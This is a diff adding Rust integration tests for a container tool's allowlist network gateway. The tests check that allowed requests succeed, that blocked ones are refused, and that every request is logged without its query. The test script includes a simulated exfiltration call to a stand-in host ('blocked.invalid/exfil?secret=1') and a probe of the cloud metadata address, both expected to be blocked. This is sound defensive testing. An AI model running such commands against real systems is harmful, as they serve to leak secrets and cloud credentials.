@@ -1,0 +1,109 @@
+//! Issue 15 through the CLI: a run in a container with `network=allowlist` reaches only what
+//! the project allows, through Corral's gateway, and every request is on the record.
+
+use std::io::{Read, Write};
+use std::net::TcpListener;
+
+use super::{Env, json, test_image};
+
+/// A one-page web server on 127.0.0.1 (this machine, outside any container); counts visits.
+fn web_server() -> (u16, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
+    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
+    let port = listener.local_addr().expect("addr").port();
+    let visits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
+    let counted = visits.clone();
+    std::thread::spawn(move || {
+        for mut stream in listener.incoming().flatten() {
+            counted.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+            let mut buf = [0u8; 4096];
+            let _ = stream.read(&mut buf);
+            let _ = stream.write_all(
+                b"HTTP/1.1 200 OK\r\ncontent-length: 14\r\nconnection: close\r\n\r\nhello, allowed",
+            );
+        }
+    });
+    (port, visits)
+}
+
+#[test]
+fn a_step_reaches_an_allowed_host_through_the_proxy_and_is_refused_the_rest_on_the_record() {
+    test_image();
+    let (port, visits) = web_server();
+    let env = Env::new();
+    // The allowlist names the loopback address itself: the one way the gateway reaches an
+    // internal address. The step unsets NO_PROXY so its request to 127.0.0.1 goes to the
+    // proxy (which is on the container's own loopback) rather than nowhere.
+    env.project(
+        "r",
+        &["agent-image=corral-test/busybox:1", "allow-hosts=127.0.0.1"],
+    );
+    let script = format!(
+        "unset NO_PROXY no_proxy; wget -qO- http://127.0.0.1:{port}/page > got.txt; \
+         if wget -qO- http://blocked.invalid/exfil?secret=1; then echo LEAKED; exit 1; fi; \
+         if wget -qO- http://169.254.169.254/latest/meta-data/; then echo LEAKED; exit 1; fi; \
+         ls /sys/class/net"
+    );
+    env.sh_task("r", "Fetch", &script);
+    let ran = env.corral_with(&["run", "Fetch", "--follow", "--json"], &[]);
+    assert_eq!(ran.code, 0, "{}\n{}", ran.stderr, ran.stdout);
+    let events: Vec<serde_json::Value> = ran.stdout.lines().map(json).collect();
+    let stdout: Vec<&str> = events
+        .iter()
+        .filter(|e| e["kind"] == "output" && e["stream"] == "stdout")
+        .filter_map(|e| e["line"].as_str())
+        .collect();
+    assert_eq!(stdout, ["lo"], "no interface but loopback, nothing leaked");
+    assert_eq!(visits.load(std::sync::atomic::Ordering::SeqCst), 1);
+
+    let run = json(&env.ok(&["runs", "--json"]))[0].clone();
+    let id = run["id"].as_str().expect("id");
+    let log = env.ok(&["logs", id, "--json"]);
+    let requests: Vec<serde_json::Value> = log
+        .lines()
+        .map(json)
+        .filter(|e| e["kind"] == "network")
+        .map(|e| e["request"].clone())
+        .collect();
+    assert_eq!(requests.len(), 3, "{requests:?}");
+    assert_eq!(requests[0]["host"], "127.0.0.1");
+    assert_eq!(requests[0]["status"], 200);
+    assert!(requests[0]["blocked"].is_null());
+    assert_eq!(requests[1]["host"], "blocked.invalid");
+    assert_eq!(requests[1]["path"], "/exfil", "never the query");
+    assert_eq!(requests[1]["blocked"]["rule"], "not_allowed");
+    assert_eq!(requests[2]["blocked"]["rule"], "not_allowed");
+    assert!(
+        !format!("{requests:?}").contains("secret=1"),
+        "queries are never recorded"
+    );
+
+    let shown = env.ok(&["run", "show", id]);
+    assert!(
+        shown.contains("network    3 requests, 2 blocked: blocked.invalid, 169.254.169.254"),
+        "{shown}"
+    );
+    let shown = json(&env.ok(&["run", "show", id, "--json"]));
+    assert_eq!(shown["network"]["blocked"], 2, "{shown}");
+}
+
+#[test]
+fn an_agent_on_a_project_with_no_network_is_refused_before_anything_starts() {
+    let env = Env::new();
+    env.project("r", &["network=none", "runtime=claude-code"]);
+    env.ok(&["task", "add", "-p", "r", "-t", "Agent", "--prompt", "hi"]);
+    let ran = env.corral_with(&["run", "Agent"], &[("ANTHROPIC_API_KEY", "sk-x")]);
+    assert_eq!(ran.code, 1, "{}", ran.stdout);
+    assert!(ran.stderr.contains("network=allowlist"), "{}", ran.stderr);
+    assert_eq!(
+        json(&env.ok(&["runs", "--json"])).as_array().map(Vec::len),
+        Some(0),
+        "nothing started"
+    );
+    let shown = env.ok(&["project", "show", "r"]);
+    assert!(shown.contains("none: no network at all"), "{shown}");
+    let bad = env.corral_with(&["project", "set", "r", "allow-hosts=exa mple.com"], &[]);
+    assert_eq!(bad.code, 1, "{}", bad.stderr);
+    assert!(bad.stderr.contains("allow-hosts"), "{}", bad.stderr);
+    let bad = env.corral_with(&["project", "set", "r", "build-network=allowlist"], &[]);
+    assert_ne!(bad.code, 0);
+}
